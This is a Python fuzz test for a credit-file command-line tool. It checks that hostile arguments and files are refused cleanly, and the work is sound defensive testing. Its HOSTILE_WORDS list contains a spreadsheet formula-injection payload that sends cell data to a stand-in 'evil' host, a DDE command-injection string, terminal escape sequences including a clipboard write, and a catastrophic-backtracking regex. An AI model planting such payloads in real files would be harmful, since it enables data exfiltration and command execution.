"""Every command with hostile arguments and files: a message and a documented exit code
(0 done, 1 refused input, 2 usage), never a traceback, a raw terminal escape, a hang, or a
partial output file."""

from __future__ import annotations

import argparse
import json
import os
import re
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

sys.path.insert(0, str(Path(__file__).parent))
from faultkit import TRACEBACK, cli, customers, examples, make_archive_file, working_in

from creditfile.cli.program import build_parser
from creditfile.policy import default_policy_path

EXIT_CODES = {0, 1, 2, 3}  # README: 0 done, 1 invalid input, 2 usage, 3 regrade over a limit
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")
HOSTILE_WORDS = [
    '=HYPERLINK("http://evil/?d="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "\x1b]0;pwned\x07",
    "\x1b[2J",
    "\x1b]52;c;ZXZpbA==\x07",
    "\u202eC000001",
    "C0\u200b00001",
    "\udcff",
    "NaN",
    "-inf",
    "1e309",
    "9" * 400,
    "2026-01-01\n",
    "x" * 5000,
    "",
    "--",
    "-",
    "C000001",
]


def every_command() -> list[list[str]]:
    """Every command and subcommand of the parser, so a new one is fuzzed without a word here."""

    def walk(parser: argparse.ArgumentParser, path: list[str]) -> Iterator[list[str]]:
        subs = [a for a in parser._actions if isinstance(a, argparse._SubParsersAction)]
        if not subs:
            yield path
            return
        for name, child in subs[0].choices.items():
            yield from walk(child, [*path, name])

    return [c for c in walk(build_parser(), []) if c and c[0] != "tui"]


def every_option() -> list[str]:
    options: set[str] = set()

    def walk(parser: argparse.ArgumentParser) -> None:
        for action in parser._actions:
            options.update(o for o in action.option_strings if o.startswith("--"))
            if isinstance(action, argparse._SubParsersAction):
                for child in action.choices.values():
                    walk(child)

    walk(build_parser())
    return sorted(options - {"--help", "--version"})


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, str]]:
    """An archive and a gallery of hostile files, in the working directory."""
    from openpyxl import Workbook

    root = tmp_path_factory.mktemp("hostile-fuzz")
    archive = make_archive_file(root / "archive.json", 6)
    hostile = customers(2, 5)
    hostile[0]["name"] = HOSTILE_WORDS[0]
    hostile[1]["trading"]["problems"] = "\x1b]0;note\x07"
    (root / "formula.jsonl").write_text(
        "".join(json.dumps(d, ensure_ascii=False) + "\n" for d in hostile), "utf-8"
    )
    (root / "nan.json").write_text('[{"id": "N1", "name": "n", "nature": NaN}]', "utf-8")
    (root / "deep.json").write_text("[" * 5000 + "]" * 5000, "utf-8")
    (root / "surrogate.json").write_text('[{"id": "S\\ud800", "name": "n"}]', "utf-8")
    (root / "wide.csv").write_text(",".join(["id"] * 2000) + "\n", "utf-8")
    book = Workbook()
    book.active.title = "客户"
    book.active.append(["客户编号", "客户名称", "客户性质"])
    book.active["XFD1048576"] = "x"
    book.save(root / "far.xlsx")
    (root / "zero.jsonl").symlink_to("/dev/zero")
    (root / "regex.yaml").write_text(
        default_policy_path()
        .read_text("utf-8")
        .replace("when: cumulative_lease_amount >= 500000", "when: nature =~ '(a+)+$'"),
        "utf-8",
    )
    (root / "nan.yaml").write_text("weight: .nan\n" + "a: [" * 900 + "]" * 900, "utf-8")
    names = {
        "archive": str(archive),
        "policy": str(default_policy_path()),
        **{p.stem + p.suffix: str(p) for p in root.iterdir() if p.is_file()},
        "dir": str(root),
        "missing-dir": str(root / "no" / "such" / "out.csv"),
        "out-xlsx": str(root / "new.xlsx"),
        "out-csv": str(root / "new.csv"),
        "full": "/dev/full",
        "zero": str(root / "zero.jsonl"),
        "under-file": str(root / "formula.jsonl" / "x.json"),
    }
    with working_in(root, archive):
        yield names


def _safe(argv: list[str]) -> bool:
    # Large generated archives are not what this test is about.
    return not any(a.isdigit() and int(a) > 50 for a in argv)


@settings(
    max_examples=examples(150),
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much],
)
@given(data=st.data())
def test_every_command_with_hostile_arguments(place: dict[str, str], data: st.DataObject) -> None:
    paths = sorted(place.values())
    token = st.one_of(
        st.sampled_from(every_option()),
        st.sampled_from(HOSTILE_WORDS),
        st.sampled_from(paths),
        st.text(max_size=8),
    )
    command = data.draw(st.sampled_from(every_command()))
    argv = [*command, *data.draw(st.lists(token, max_size=5))]
    if not _safe(argv):
        return
    outs = [p for p in (place["out-xlsx"], place["out-csv"]) if p in argv]
    started = time.perf_counter()
    outcome = cli(argv)
    took = time.perf_counter() - started
    said = outcome.out + outcome.err
    assert TRACEBACK not in said, (argv, outcome.err[-2000:])
    assert outcome.code in EXIT_CODES, (argv, outcome.code, outcome.err[-500:])
    # CSV on stdout ends its lines in CR LF, as the format says; nothing else may be raw.
    assert RAW.search(said.replace("\r\n", "\n")) is None, (argv, RAW.findall(said))
    assert took < 20, (argv, took)
    if outcome.code != 0:
        assert outcome.err.strip() or ("--json" in argv and outcome.out.strip()), argv
        for out in outs:  # a refused command leaves no partial file behind
            assert not Path(out).exists(), (argv, out)
    for out in outs:
        Path(out).unlink(missing_ok=True)


@pytest.mark.parametrize("command", every_command(), ids=" ".join)
def test_every_command_is_fuzzed_and_answers_help(command: list[str]) -> None:
    outcome = cli([*command, "--help"])
    assert outcome.code == 0 and outcome.out.strip()


HOSTILE_CASES = [
    (["import", "@far.xlsx"], "XFD1048576"),
    (["import", "@deep.json"], "nested too deeply"),
    (["import", "@nan.json"], "NaN is not allowed"),
    (["import", "@surrogate.json"], "surrogate"),
    (["import", "@wide.csv"], "columns"),
    (["import", "@zero"], "not a regular file"),
    (["policy", "check", "@zero"], "not a regular file"),
    (["--policy", "@zero", "explain", "C000001"], "not a regular file"),
    (["--db", "@zero", "history"], "not a regular file"),
    (["import", "@formula.jsonl"], ""),
    (["policy", "check", "@regex.yaml"], "=~"),
    (["policy", "check", "@nan.yaml"], "nan.yaml"),
    (["--policy", "@regex.yaml", "regrade"], "=~"),
    (["export", "--out", "@full"], "/dev/full"),
    (["export", "--out", "@missing-dir"], "out.csv"),
    (["export", "--out", "@dir"], "folder"),
    (["export", "--out", "@archive"], "archive itself"),
    (["report", "all", "--xlsx", "@full"], "/dev/full"),
    (["report", "all", "--csv", "@missing-dir"], "out.csv"),
    (["template", "--format", "xlsx", "--out", "@dir"], "folder"),
    (["db", "copy", "@archive", "@under-file"], "cannot create its folder"),
    (["export", "--out", "@under-file"], "a part of the path is not a folder"),
    (["demand", "import", "@far.xlsx"], "more than 100,000 rows"),
    (["demand", "import", "@zero"], "not a regular file"),
    (["demand", "import", "@wide.csv"], "columns"),
    (["history", "a\udcffb"], ""),
    (["history", "--event", "a\udcffb"], "no event of that kind"),
    (["demand", "add", "C000001", "--item", "tower_crane", "--quantity", "1",
      "--wanted", "2026-12-20", "--note", "a\udcffb"], "lone surrogate"),
]  # fmt: skip


@pytest.mark.parametrize(("argv", "said"), HOSTILE_CASES, ids=lambda v: ascii(v)[:40])
def test_hostile_files_and_paths_are_refused_with_a_message(
    place: dict[str, str], argv: list[str], said: str
) -> None:
    argv = [place[word[1:]] if word.startswith("@") else word for word in argv]
    started = time.perf_counter()
    outcome = cli(argv)
    assert time.perf_counter() - started < 10
    assert TRACEBACK not in outcome.out + outcome.err
    assert RAW.search(outcome.out + outcome.err) is None
    if not said:  # hostile but valid: taken, and shown inert
        assert outcome.code == 0, outcome.err
        return
    assert outcome.code in (1, 2), (argv, outcome.code, outcome.out[-300:])
    assert said.lower() in outcome.err.lower(), outcome.err
    assert not Path(place["missing-dir"]).parent.exists()


def test_a_file_name_that_is_not_utf8_is_recorded_by_its_escapes(place: dict[str, str]) -> None:
    # A name of bytes that are not UTF-8 reaches the program with lone surrogates in it.
    name = os.fsdecode(b"p\xff")
    Path(f"{name}.yaml").write_bytes(Path(place["policy"]).read_bytes())
    for argv in (
        ["policy", "activate", f"{name}.yaml", "--yes"],
        ["export", "--include-personal", "--out", f"{name}.json"],
        ["policy", "history"],
        ["history", "--json"],
    ):
        outcome = cli(argv)
        assert TRACEBACK not in outcome.out + outcome.err
        assert outcome.code == 0, (argv, outcome.err)
        assert RAW.search(outcome.out + outcome.err) is None
    assert "p\\udcff.yaml" in cli(["policy", "history"]).out
    lines = Path(place["archive"] + ".history.jsonl").read_bytes().splitlines()
    last = json.loads(lines[-1])
    assert last["kind"] == "personal_data_exported"
    assert last["out"] == "p\\udcff.json"
